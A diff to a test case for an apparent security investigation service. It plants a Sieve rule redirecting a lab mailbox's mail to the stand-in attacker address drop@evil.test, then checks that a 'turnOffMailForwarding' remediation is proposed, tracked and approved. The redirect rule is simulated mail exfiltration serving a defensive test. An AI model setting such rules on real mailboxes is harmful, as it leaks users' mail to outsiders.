@@ -232,9 +232,13 @@ class Many(DecisionCase):
         them."""
         self.propose_and_open(2)
         mailbox = self.lab.mailboxes[0]
+        with self.lab.sieve(mailbox) as owner:
+            owner.put("main", b'redirect "drop@evil.test";', active=True)
         answer = self.service.post_investigation([{
             "type": "turnOffMailForwarding", "verdict": "suspicious", "assets": [mailbox],
             "reason": "It forwards to outside.", "entity": {"type": "mailbox", "address": mailbox}}])
+        forwarding = answer["actions"][0]["id"]
+        self.window.wait(lambda: self.service.action(forwarding)["targets"].get("digest"), "the scripts")
         self.counts(self.window, 3, 0)
         self.select_from(0, 3)
         self.window.click("button", "Approve")
